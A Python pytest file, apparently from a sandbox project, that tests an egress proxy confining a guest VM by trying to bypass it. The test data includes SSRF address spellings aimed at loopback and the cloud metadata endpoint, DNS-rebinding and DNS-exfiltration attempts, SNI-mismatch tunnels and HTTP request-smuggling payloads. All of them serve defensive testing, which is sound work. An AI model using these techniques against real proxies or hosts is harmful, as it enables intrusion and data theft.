"""A real guest behind its proxy, on the island: what it reaches, and the ways around that it tries.

The processes by themselves are tested in tests/unit/network/proxy. Here root in the guest tries,
with the guest's own programs; the internet and the name server are the island's, so that each byte
and each question that leaves is seen.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox_rpc.network import launch
from sandbox_rpc.network.proxy.rules import PORTS
from tests.unit.network.lab import BEYOND, INTERNET, NEIGHBOUR, OWN_LAN, OWN_PUBLIC, RESOLVER
from tests.unit.network.proxy.stand import Server, certificate, echo, tls, web
from tests.unit.network.proxy.test_hello import message, records, server_name
from tests.vm.conftest import Running
from tests.vm.host import Host, wait_for
from tests.vm.island import Door, Island, knock_inside, python

NAMES = {
    "good.example": INTERNET, "other.example": INTERNET, "front.example": INTERNET,
    "loop.example": "127.0.0.1", "lan.example": NEIGHBOUR, "own.example": OWN_LAN,
    "public.example": OWN_PUBLIC, "metadata.example": "169.254.169.254",
}  # fmt: skip
PLAIN = 8080
RULES = (
    *NAMES, f"good.example:{PLAIN}", f"front.example:{PLAIN}", "127.0.0.1", OWN_LAN,
    "own.example:7003", "lan.example:7003",
)  # fmt: skip

ASK = r"""
import json, socket, sys
def one(data):
    with socket.create_connection(("10.0.2.100", 8888), timeout=60) as s:
        s.sendall(bytes.fromhex(data))
        s.shutdown(socket.SHUT_WR)
        found = b""
        try:
            while part := s.recv(65536):
                found += part
        except ConnectionResetError:
            pass
        return found.decode("latin-1")
print(json.dumps([one(data) for data in json.load(sys.stdin)]))
"""
"""Each of some texts on a connection of its own to the proxy; what came back."""


class Internet:
    """Servers at 9.9.9.9 of the island."""

    def __init__(self, island: Island, folder: Path) -> None:
        folder.mkdir(exist_ok=True)
        self.pem = certificate(folder, "good.example", "other.example")
        self.heard: list[bytes] = []
        self.servers = [
            self._serve(island, 443, tls(self.pem, web)),
            self._serve(island, PLAIN, web),
            self._serve(island, 8022, self._listen),
        ]

    def _serve(self, island: Island, port: int, handle: Any) -> Server:
        listener = island.world.internet.socket()
        listener.bind((INTERNET, port))
        listener.listen(256)
        return Server(handle, listener)

    def _listen(self, client: Any) -> None:
        while data := client.recv(65536):
            self.heard.append(data)

    def stop(self) -> None:
        """Take no more clients."""
        for server in self.servers:
            server.close()


@pytest.fixture(scope="module")
def internet(island: Island, top: Path) -> Iterator[Internet]:
    """For all tests of this file."""
    island.names.table.update(NAMES)
    made = Internet(island, top / "internet")
    yield made
    made.stop()


@pytest.fixture(scope="module")
def behind(island_host: Host, internet: Internet) -> Running:
    """A sandbox behind its proxy; it trusts the internet's authority."""
    workspace = island_host.workspace("behind")
    (workspace / "server.pem").write_bytes(internet.pem.read_bytes())
    sandbox = Running(
        island_host, workspace, island_host.start(workspace, "--proxy", "--no-registries")
    )
    proxy(sandbox, "allow", *RULES)
    return sandbox


def proxy(sandbox: Running, *words: str) -> Any:
    """`sandbox proxy WORDS --json`."""
    return sandbox.host.json("proxy", *words, "-s", sandbox.name)


def audit(sandbox: Running) -> list[dict[str, Any]]:
    """All lines of it."""
    done = sandbox.host.run("proxy", "log", "-n", "10000", "--json", "-s", sandbox.name)
    return [json.loads(line) for line in done.out.splitlines()]


def ask(sandbox: Running, *texts: str | bytes) -> list[str]:
    """What the proxy answers to each of them."""
    data = [(one.encode() if isinstance(one, str) else one).hex() for one in texts]
    found: list[str] = json.loads(python(sandbox.host, sandbox.name, ASK, json.dumps(data)))
    return found


def get(url: str) -> str:
    """A request in plain HTTP."""
    return f"GET {url} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"


def connect(place: str, first: bytes = b"") -> bytes:
    """A tunnel and the first words in it."""
    return f"CONNECT {place} HTTP/1.1\r\nHost: {place}\r\n\r\n".encode() + first


def reason(answer: str) -> str:
    """Why an answer is a refusal."""
    return str(json.loads(answer.partition("\r\n\r\n")[2])["error"])


def test_the_proxy_is_the_only_way(behind: Running, island: Island) -> None:
    """The table: neither the host nor its networks nor the internet nor a name server."""
    doors: list[Door] = [("tcp", address, 80) for address in BEYOND]
    doors += [("tcp", address, 7002) for address in (OWN_LAN, OWN_PUBLIC, "10.0.2.2")]
    doors += [("tcp", INTERNET, 443), ("tcp", "10.0.2.2", island.world.loopback_port)]
    doors += [("udp", "10.0.2.3", 53), ("udp", RESOLVER, 53), ("udp", INTERNET, 53)]
    doors += [("tcp", "10.0.2.3", 53), ("tcp", "fec0::2", 7001), ("tcp", "10.0.2.100", 80)]
    doors += [("udp", "10.0.2.100", 8888), ("udp", NEIGHBOUR, 80)]
    asked = len(island.names.asked)
    answers = knock_inside(behind.host, behind.name, doors)
    for door, answer in answers.items():
        assert answer == "refused" or answer.startswith("unreachable"), (door, answer)
    # With a route of the guest's own making it is the network process that refuses.
    routed = "sudo ip route add default via 10.0.2.2"
    behind.sh(routed)
    try:
        answers = knock_inside(behind.host, behind.name, doors)
    finally:
        behind.sh("sudo ip route del default")
    for door, answer in answers.items():
        assert answer == "refused" or answer.startswith("unreachable"), (door, answer)
    assert len(island.names.asked) == asked


def test_what_is_allowed_is_reached(behind: Running) -> None:
    """By the guest's own programs, which need no flag for it."""
    said = behind.sh(
        "curl -sf --cacert workspace/server.pem https://good.example/x"
        f" && curl -sf http://good.example:{PLAIN}/y"
        " && git -c http.sslCAInfo=workspace/server.pem ls-remote https://good.example/x.git"
    ).out
    assert "GET /x HTTP/1.1" in said
    assert "GET /y HTTP/1.1" in said
    lines = [line for line in audit(behind) if line["host"] == "good.example"]
    tunnels = [line for line in lines if line.get("sni") == "good.example"]
    assert len(tunnels) >= 2, "that of curl and that of git"
    assert {line["address"] for line in lines} == {INTERNET}


def test_the_rest_is_refused_and_told(behind: Running) -> None:
    """To the program, in the audit, and in the list that the editor reads."""
    (answer,) = ask(behind, get("http://nobody.example/secret-path"))
    assert answer.startswith("HTTP/1.1 403 ")
    assert reason(answer) == "unlisted"
    done = behind.sh(
        "curl -s -o /dev/null -w '%{http_connect}' https://nobody.example/", check=False
    )
    assert done.out == "403"
    events = proxy(behind, "list")["blocked"]
    wait_for(lambda: _count(behind, "nobody.example") == 2, "both refusals")
    assert "secret-path" not in json.dumps([events, audit(behind)])


def _count(sandbox: Running, host: str) -> int:
    events = proxy(sandbox, "list")["blocked"]
    return sum(event["count"] for event in events if event["host"] == host)


def test_no_question_gets_out(behind: Running, island: Island) -> None:
    """A name that nobody allowed is not looked up, so nothing can be said in its labels."""
    before = set(island.names.asked)
    secret = "c2VjcmV0.exfiltrate.example"
    ask(behind, get(f"http://{secret}/"), connect(f"{secret}:443"))
    behind.sh(
        f"timeout 20 getent hosts {secret}; timeout 20 dig {secret} 2>/dev/null;"
        f" timeout 20 curl -s https://{secret}/",
        check=False,
    )
    assert not [name for name in set(island.names.asked) - before if "exfiltrate" in name]


def test_names_that_lead_where_no_guest_may_go(behind: Running, island: Island) -> None:
    """Allowed or not: the host, its networks, its own public address, a cloud's secrets."""
    hosts = ["loop.example", "lan.example", "own.example", "public.example", "metadata.example"]
    answers = ask(behind, *map(get, (f"http://{host}/" for host in hosts)))
    answers += ask(behind, *(connect(f"{host}:443") for host in hosts))
    answers += ask(behind, get("http://own.example:7003/"), get("http://127.0.0.1/"))
    for answer in answers:
        assert reason(answer) == "private", answer
    # Rebinding: good when it is asked for first, and the host's own a moment later.
    island.names.table["turn.example"] = INTERNET
    proxy(behind, "allow", f"turn.example:{PLAIN}")
    (answer,) = ask(behind, get(f"http://turn.example:{PLAIN}/"))
    assert answer.startswith("HTTP/1.1 200 ")
    island.names.table["turn.example"] = "127.0.0.1"
    (answer,) = ask(behind, get(f"http://turn.example:{PLAIN}/"))
    # What was looked up for the check is what is dialled, remembered or new.
    assert answer.startswith("HTTP/1.1 200 ") or reason(answer) == "private"
    assert audit(behind)[-1].get("address") in (INTERNET, None)


@pytest.mark.parametrize("tunnel", [False, True])
def test_addresses_in_every_spelling(behind: Running, tunnel: bool) -> None:
    """None of them is on the list, or what it would have to be."""
    spellings = [
        "127.0.0.1", "127.1", "0177.0.0.1", "0x7f000001", "2130706433", "127.0.0.1.", "[::1]",
        "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:7f00:1]", "[64:ff9b::7f00:1]",
        "[::1%25lo]", "localhost", "LOCALHOST.", "0", "0.0.0.0", OWN_LAN, "10.0.2.2",
        "169.254.169.254", "good.example%00.evil.example", "good.example@127.0.0.1",
        "[good.example]", "good.example\\@127.0.0.1", "9.9.9.9", "[::ffff:9.9.9.9]", "",
    ]  # fmt: skip
    if tunnel:
        answers = ask(behind, *(connect(f"{one}:443") for one in spellings))
    else:
        answers = ask(behind, *(get(f"http://{one}/") for one in spellings))
    for spelling, answer in zip(spellings, answers, strict=True):
        assert answer[9:12] in ("400", "403"), (spelling, answer)


def test_a_tunnel_is_for_the_host_it_names(behind: Running, internet: Internet) -> None:
    """TLS for another one, no name in it, no TLS: nothing of it leaves."""
    proxy(behind, "allow", "front.example:8022")
    firsts = [
        records(message(server_name(b"evil.example")), []),
        records(message(server_name(b"evil.example")), [4, 9, 50]),
        records(message(), []), b"SSH-2.0-OpenSSH_9.9\r\n",
        b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", b"EHLO me\r\n", bytes(40),
    ]  # fmt: skip
    answers = ask(behind, *(connect("front.example:8022", first) for first in firsts))
    assert internet.heard == []
    for answer in answers:
        assert answer.startswith("HTTP/1.1 200 Connection established\r\n\r\n")
        assert "HTTP/1.1 200 OK" not in answer
    good = records(message(server_name(b"front.example")), [4, 9, 50])
    ask(behind, connect("front.example:8022", good))
    wait_for(lambda: b"".join(internet.heard) == good, "the one for the right host")
    reasons = [line.get("reason") for line in audit(behind) if line["host"] == "front.example"]
    for wanted in ("sni-mismatch", "no-sni", "not-tls", "host-mismatch"):
        assert wanted in reasons


def test_ports(behind: Running) -> None:
    """80 and 443, and what a line names."""
    assert PORTS == (80, 443)
    answers = ask(
        behind, connect("good.example:22"), connect("good.example:25"),
        get("http://good.example:8081/"), get("http://other.example:8080/"),
    )  # fmt: skip
    assert [reason(answer) for answer in answers] == ["port"] * 4


def test_nothing_is_smuggled(behind: Running) -> None:
    """Two requests in one: what a server could read as the second one does not get there."""
    start = f"POST http://good.example:{PLAIN}/ HTTP/1.1\r\nHost: x\r\n"
    hidden = "GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    answers = ask(
        behind,
        f"{start}Content-Length: {len(hidden)}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        f"{hidden}",
        f"{start}Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n{hidden}",
        f"{start}Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n{hidden}",
        f"{start}Transfer-Encoding\t: chunked\r\n\r\n0\r\n\r\n{hidden}",
        get(f"http://good.example:{PLAIN}/").replace("Host: x", "Host: evil.example"),
    )
    for answer in answers[:-1]:
        assert answer[9:12] in ("400", "501"), answer
        assert "smuggled" not in answer
    assert f"Host: good.example:{PLAIN}" in answers[-1]
    assert "evil.example" not in answers[-1]


MANY = r"""
import socket, sys, threading
def fetch(keep):
    with socket.create_connection(("10.0.2.100", 8888), timeout=120) as s:
        file = s.makefile("rb")
        for _ in range(keep):
            s.sendall(b"GET http://good.example:8080/%d HTTP/1.1\r\nHost: x\r\n\r\n" % keep)
            status = file.readline()
            length = 0
            while (line := file.readline()) != b"\r\n":
                if line.lower().startswith(b"content-length:"):
                    length = int(line[15:])
            body = file.read(length)
            if b" 200 " not in status or b"/%d HTTP" % keep not in body:
                failures.append(status + body)
failures = []
for _ in range(3):
    fetch(1)
fetch(20)
threads = [threading.Thread(target=fetch, args=(1 + n % 3,)) for n in range(50)]
[one.start() for one in threads]
[one.join() for one in threads]
print(len(failures), failures[:1])
"""


def test_three_in_a_row_and_fifty_at_once(behind: Running) -> None:
    """New connections, kept ones, and many of both: each gets its own answers."""
    assert python(behind.host, behind.name, MANY).startswith("0 ")


STREAMS = r"""
import socket, sys
def read_head(s):
    found = b""
    while not found.endswith(b"\r\n\r\n"):
        found += s.recv(1)
    return found
def exactly(s, count):
    found = b""
    while len(found) < count:
        found += s.recv(count - len(found))
    return found
hello = bytes.fromhex(sys.stdin.read())
with socket.create_connection(("10.0.2.100", 8888), timeout=120) as s:
    s.sendall(b"CONNECT other.example:8090 HTTP/1.1\r\nHost: x\r\n\r\n")
    assert b" 200 " in read_head(s)
    s.sendall(hello + b"x" * 500000)
    s.shutdown(socket.SHUT_WR)
    found = b""
    while part := s.recv(65536):
        found += part
    print(len(found) - len(hello))
with socket.create_connection(("10.0.2.100", 8888), timeout=120) as s:
    s.sendall(b"GET http://other.example:8091/ HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\n"
              b"Upgrade: websocket\r\n\r\n")
    assert b" 101 " in read_head(s)
    s.sendall(b"frames" * 10000)
    print(len(exactly(s, 60000)))
with socket.create_connection(("10.0.2.100", 8888), timeout=120) as s:
    s.sendall(b"PUT http://good.example:8080/up HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
              b"Transfer-Encoding: chunked\r\n\r\n")
    for _ in range(20):
        s.sendall(b"2710\r\n" + b"y" * 10000 + b"\r\n")
    s.sendall(b"0\r\n\r\n")
    found = b""
    while part := s.recv(65536):
        found += part
    print(found.count(b"y"))
"""


def test_half_ends_websockets_and_chunks(
    behind: Running, island: Island, internet: Internet
) -> None:
    """What is more than a request and its answer."""

    def late(client: Any) -> None:
        said = b""
        while data := client.recv(65536):
            said += data
        client.sendall(said)

    def switch(client: Any) -> None:
        while b"\r\n\r\n" not in client.recv(65536):
            pass
        client.sendall(b"HTTP/1.1 101 Yes\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
        echo(client)

    servers = [internet._serve(island, 8090, late), internet._serve(island, 8091, switch)]
    proxy(behind, "allow", "other.example:8090", "other.example:8091")
    hello = records(message(server_name(b"other.example")), []).hex()
    said = python(behind.host, behind.name, STREAMS, hello)
    for server in servers:
        server.close()
    story = behind.host.run("proxy", "log", "-n", "10", "-s", behind.name).out
    assert said.split()[:2] == ["500000", "60000"], story
    assert int(said.split()[2]) >= 200_000


HOLD = r"""
import socket, sys
hellos = {name: bytes.fromhex(data) for name, data in
          (line.split() for line in sys.stdin.read().splitlines())}
open_ = {}
for name, hello in hellos.items():
    s = socket.create_connection(("10.0.2.100", 8888), timeout=120)
    s.sendall(b"CONNECT %b:8092 HTTP/1.1\r\nHost: x\r\n\r\n" % name.encode())
    while b"\r\n\r\n" not in s.recv(4096):
        pass
    s.sendall(hello)
    assert s.recv(len(hello), socket.MSG_WAITALL)
    open_[name] = s
open("/tmp/held", "w").close()
first = min(open_)
print(len(open_[first].recv(10)))
other = open_[max(open_)]
other.sendall(b"still")
print(other.recv(5).decode())
"""


def test_blocking_cuts_live_connections_and_no_others(
    behind: Running, island: Island, internet: Internet
) -> None:
    """While both are open in the guest; the other one goes on."""
    server = internet._serve(island, 8092, echo)
    proxy(behind, "allow", "good.example:8092", "other.example:8092")
    hellos = "".join(
        f"{name} {records(message(server_name(name.encode())), []).hex()}\n"
        for name in ("good.example", "other.example")
    )
    said: list[str] = []
    behind.sh("rm -f /tmp/held")
    thread = threading.Thread(
        target=lambda: said.append(python(behind.host, behind.name, HOLD, hellos))
    )
    thread.start()
    wait_for(
        lambda: behind.sh("ls /tmp/held", check=False).status == 0, "both to be open", seconds=120
    )
    answer = proxy(behind, "block", "good.example:8092")
    assert answer["cut"] == 1
    thread.join(120)
    server.close()
    assert said == ["0\nstill\n"]


def test_once_ends_with_the_machine_and_the_allowlist_stays(
    behind: Running, internet: Internet
) -> None:
    """What is allowed for good is in its file; the rest is not."""
    assert proxy(behind, "allow", "--once", "today.example")["once"] == ["today.example"]
    folder = behind.host.base / "sandbox-proxy" / behind.name
    text = (folder / "allowlist.txt").read_text()
    assert "today.example" not in text
    assert "good.example" in text.splitlines()
    # Edited by hand, as editors do it.
    (folder / "new").write_text(f"{text}hand.example\n")
    (folder / "new").rename(folder / "allowlist.txt")
    assert "hand.example" in proxy(behind, "list")["rules"]
    wait_for(lambda: _reason_of(behind, "hand.example") == "unresolved", "the proxy to see it")


def _reason_of(sandbox: Running, host: str) -> str:
    return reason(ask(sandbox, get(f"http://{host}/"))[0])


def test_the_proxy_may_die(behind: Running) -> None:
    """Whoever asks meanwhile waits; a supervisor's death changes nothing; what listens is ours."""
    room = behind.host.room_of(behind.name)
    url = f"curl -sf --max-time 60 http://good.example:{PLAIN}/again | grep -c again"

    def pid() -> int:
        running = launch.attach(room.proxy_control)
        running.control.close()
        return running.pid

    first = pid()
    os.kill(first, signal.SIGKILL)
    assert behind.sh(url).out == "1\n"
    second = pid()
    assert second != first
    os.kill(behind.host.supervisor_pid(behind.name), signal.SIGKILL)
    assert behind.sh(url).out == "1\n"
    assert behind.host.json("status", behind.name)["state"] == "running"
    assert pid() == second
    os.kill(second, signal.SIGKILL)
    assert behind.sh(url).out == "1\n"
    layers = {
        wall["name"]: wall["active"] for wall in behind.host.json("status", behind.name)["box"]
    }
    assert layers["proxy.namespace"]
    assert layers["proxy.landlock"]
    assert layers["proxy.seccomp"]


def test_it_listens_nowhere(behind: Running, island: Island) -> None:
    """But for the unix socket in a folder of the user's alone, and the SSH port of netd."""
    port = behind.value["ssh"]["port"]
    ours = {one for one in island.listening() if one.startswith("127.0.0.1:")}
    assert f"127.0.0.1:{port}" in ours
    lines = island.world.host.run("ss", "-ltnpH").splitlines()
    python_ones = {line.split()[3] for line in lines if "python" in line}
    assert all(one.startswith("127.0.0.1:") for one in python_ones)
    room = behind.host.room_of(behind.name)
    assert room.proxy_socket.stat().st_mode & 0o077 == 0
    assert subprocess.run(["stat", "-c", "%a", room.folder], capture_output=True, text=True,
                          check=True).stdout == "700\n"  # fmt: skip


def test_it_ends_with_its_machine(behind: Running) -> None:
    """And the audit stays; runs after all others."""
    room = behind.host.room_of(behind.name)
    running = launch.attach(room.proxy_control)
    behind.host.run("stop", "--force", behind.name)
    running.control.settimeout(30)
    assert running.control.recv(1) == b""
    running.control.close()
    wait_for(lambda: not os.path.exists(f"/proc/{running.pid}"), "its end")
    folder = behind.host.base / "sandbox-proxy" / behind.name
    assert (folder / "allowlist.txt").exists()
    assert (folder / "log" / "access.jsonl").exists()
